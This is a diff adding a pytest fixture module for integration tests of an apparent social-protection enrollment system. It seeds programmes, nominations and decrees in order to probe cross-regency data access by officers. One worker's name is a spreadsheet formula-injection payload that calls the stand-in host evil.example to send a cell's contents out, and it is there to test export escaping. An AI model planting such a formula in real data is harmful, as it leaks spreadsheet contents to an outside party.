@@ -1,0 +1,239 @@
+"""Registry, allocation, enrollment and the BPJS simulator in-process with API keys, over the
+package's own broker, for the probes of an officer of one regency into another's data.
+
+Regency A is Samosir (12.17): its officer holds a key bound to it. Regency B is Medan (12.71):
+the admin nominates there a worker who is in the P3KE extract, validated, seated and enrolled at
+BPJS (a KPJ). Samosir's officer nominates a worker of their own whose name is a spreadsheet
+formula; the admin signs a decree, so the annex lists them.
+
+The programme requires the NIK's regency (nik_regency_must_match: true): a NIK of Medan
+nominated by Samosir is out of scope, whatever Lindung knows of its holder.
+"""
+
+from __future__ import annotations
+
+import asyncio
+import json
+import os
+import secrets
+import uuid
+from collections.abc import AsyncIterator
+from contextlib import AsyncExitStack
+from dataclasses import dataclass, field
+from datetime import date
+from typing import Any
+
+import httpx
+import pytest
+from fastapi import FastAPI
+from sqlalchemy import text
+from sqlalchemy.ext.asyncio import AsyncEngine
+
+from libs.auth import hash_key
+from libs.db import make_engine
+from libs.events import topics
+from libs.identity import worker_id_for
+from libs.messaging.kafka import ensure_topics
+from libs.nik import compose_nik
+from libs.runtime.migrate import upgrade_all
+from libs.runtime.service import Runtime, create_app
+from libs.settings import get_settings
+from tests.conftest import package_infra  # noqa: F401  (`infra`: a broker of this package's own)
+from tests.infra import Infra, create_database, run_id
+from tests.integration.audit.support import drop_database
+from tests.running import eventually, running, use_env
+
+SAMOSIR, MEDAN = "12.17", "12.71"
+KEYS = {role: secrets.token_urlsafe(32) for role in ("admin", "officer")}
+API_KEYS = json.dumps(
+    [
+        {"key_sha256": hash_key(KEYS["admin"]), "role": "province_admin", "name": "Admin Provinsi"},
+        {
+            "key_sha256": hash_key(KEYS["officer"]),
+            "role": "regency_officer",
+            "regency": SAMOSIR,
+            "name": "Petugas Samosir",
+        },
+    ]
+)
+RUN = run_id()
+PROGRAMME = f"ORAKEL-{RUN}-2026"
+PROGRAMME_YAML = f"""
+code: {PROGRAMME}
+name: Uji tanpa orakel 2026
+year: 2026
+funder: APBD_PROVINSI
+jurisdiction: "12"
+coverage_start: 2026-01-01
+budget_cap: 100000000
+allowed_deciles: [1, 2]
+decree_kind: SK_GUBERNUR
+requires_decree: false
+nik_regency_must_match: true
+quotas:
+  - {{regency: "{SAMOSIR}", sector: non_sawit, seats: 10}}
+  - {{regency: "{MEDAN}", sector: sawit, seats: 10}}
+"""
+FORMULA_NAME = '=HYPERLINK("http://evil.example/?"&A1,"klik")'
+BIRTH = date(1984, 3, 9)
+
+
+@dataclass
+class Person:
+    regency: str
+    nik: str
+    full_name: str
+    birth: date = BIRTH
+    sex: str = "L"
+
+    @property
+    def worker_id(self) -> str:
+        return worker_id_for(self.nik, get_settings().nik_pepper)
+
+    def form(self, regency: str | None = None, **changes: Any) -> dict[str, Any]:
+        """The nomination form, by `regency` (default: the NIK's own)."""
+        by = regency or self.regency
+        return {
+            "programme_code": PROGRAMME,
+            "nik": self.nik,
+            "full_name": self.full_name,
+            "birth_date": self.birth.isoformat(),
+            "sex": self.sex,
+            "occupation": "petani",
+            "regency_code": by,
+            "kecamatan": "Pangururan" if by == SAMOSIR else "Medan Kota",
+            "desa": "Lumban Suhi Suhi" if by == SAMOSIR else "Pasar Merah",
+            "sector": "non_sawit" if by == SAMOSIR else "sawit",
+            **changes,
+        }
+
+
+def medan_person(serial: int, name: str) -> Person:
+    # Same birth date and sex, serials equal in their last two digits: the masked NIKs of the
+    # known and the unknown person are the same, so the answers may be compared whole.
+    return Person(MEDAN, compose_nik(MEDAN, 3, BIRTH, "L", serial), name)
+
+
+@dataclass
+class Stack:
+    apps: dict[str, FastAPI]
+    runtimes: dict[str, Runtime]
+    engine: AsyncEngine
+    database_url: str
+    bootstrap: str
+    known: Person  # Medan's: in P3KE, nominated by Medan, seated, enrolled (KPJ)
+    unknown: Person  # a Medan NIK Lindung never heard of
+    formula: Person  # Samosir's, named like a spreadsheet formula
+    kpj: str = ""
+    decree_version: int = 1
+    extra: dict[str, Any] = field(default_factory=dict)
+
+    def client(self, service: str, role: str) -> httpx.AsyncClient:
+        return httpx.AsyncClient(
+            transport=httpx.ASGITransport(app=self.apps[service]),
+            base_url=f"http://{service}",
+            headers={"Authorization": f"Bearer {KEYS[role]}"},
+            timeout=60,
+        )
+
+    async def call(self, service: str, role: str, method: str, path: str, **kw: Any) -> httpx.Response:
+        async with self.client(service, role) as http:
+            return await http.request(method, path, **kw)
+
+    async def scalar(self, sql: str, **params: Any) -> Any:
+        async with self.engine.connect() as conn:
+            return (await conn.execute(text(sql), params)).scalar_one_or_none()
+
+
+async def expect(reply: httpx.Response, *statuses: int) -> Any:
+    assert reply.status_code in statuses, f"{reply.request.method} {reply.request.url}: {reply.text}"
+    return reply.json()
+
+
+SERVICES = ("registry", "allocation", "enrollment", "bpjs_simulator")
+
+
+@pytest.fixture(scope="package")
+async def stack(infra: Infra) -> AsyncIterator[Stack]:
+    import importlib
+
+    name = f"lindung_oracles_{uuid.uuid4().hex[:8]}"
+    saved_env = dict(os.environ)
+    try:
+        url = await create_database(infra.server_url, name)
+        await asyncio.to_thread(upgrade_all, url)
+        await ensure_topics(infra.bootstrap, topics.all_topic_names(), partitions=1)
+        use_env(url, infra.bootstrap, LINDUNG_API_KEYS=API_KEYS, LINDUNG_TOPIC_PARTITIONS="1")
+        engine = make_engine(url)
+        try:
+            async with AsyncExitStack() as exits:
+                apps: dict[str, FastAPI] = {}
+                runtimes: dict[str, Runtime] = {}
+                for service in SERVICES:
+                    definition = importlib.import_module(f"services.{service}.entrypoints.app").definition()
+                    runtimes[service] = await exits.enter_async_context(running(definition))
+                    apps[service] = create_app(definition)
+                    apps[service].state.runtime = runtimes[service]
+                found = Stack(
+                    apps,
+                    runtimes,
+                    engine,
+                    url,
+                    infra.bootstrap,
+                    known=medan_person(1101, "Butet Manurung"),
+                    unknown=medan_person(1201, "Tidak Dikenal"),
+                    formula=Person(SAMOSIR, compose_nik(SAMOSIR, 3, BIRTH, "L", 1301), FORMULA_NAME),
+                )
+                await seed(found)
+                yield found
+        finally:
+            await engine.dispose()
+            await drop_database(infra.server_url, name)
+    finally:
+        os.environ.clear()
+        os.environ.update(saved_env)
+        get_settings.cache_clear()
+
+
+async def seed(stack: Stack) -> None:
+    yaml = {"content-type": "application/yaml"}
+    await expect(
+        await stack.call("allocation", "admin", "POST", "/programmes", content=PROGRAMME_YAML, headers=yaml),
+        201,
+    )
+
+    async def registry_knows() -> bool:
+        sql = "SELECT count(*) FROM registry.programmes WHERE programme_code = :p"
+        return bool(await stack.scalar(sql, p=PROGRAMME))
+
+    await eventually(registry_knows, timeout_s=30)
+    extract = f"nik,desil\n{stack.known.nik},1\n{stack.formula.nik},1\n"
+    await expect(
+        await stack.call("registry", "admin", "POST", "/reference/p3ke", content=extract.encode()), 201
+    )
+    known = await expect(
+        await stack.call("registry", "admin", "POST", "/nominations", json=stack.known.form()), 201
+    )
+    assert known["status"] == "validated", known
+    formula = await expect(
+        await stack.call("registry", "officer", "POST", "/nominations", json=stack.formula.form()), 201
+    )
+    assert formula["status"] == "validated", formula
+
+    async def enrolled() -> str | None:
+        sql = "SELECT kpj FROM enrollment.registrations WHERE worker_id = :w AND status = 'enrolled'"
+        kpj: str | None = await stack.scalar(sql, w=stack.known.worker_id)
+        return kpj
+
+    stack.kpj = await eventually(enrolled, timeout_s=45)
+
+    async def seated() -> bool:
+        sql = "SELECT count(*) FROM allocation.assignments WHERE programme_code = :p AND status = 'assigned'"
+        return int(await stack.scalar(sql, p=PROGRAMME)) == 2
+
+    await eventually(seated, timeout_s=30)
+    decree = {"number": f"188.44/{RUN}/KPTS/2026", "date": "2026-02-01", "signer": "Gubernur Sumatera Utara"}
+    issued = await expect(
+        await stack.call("allocation", "admin", "POST", f"/programmes/{PROGRAMME}/decrees", json=decree), 201
+    )
+    stack.decree_version = int(issued.get("version", 1))
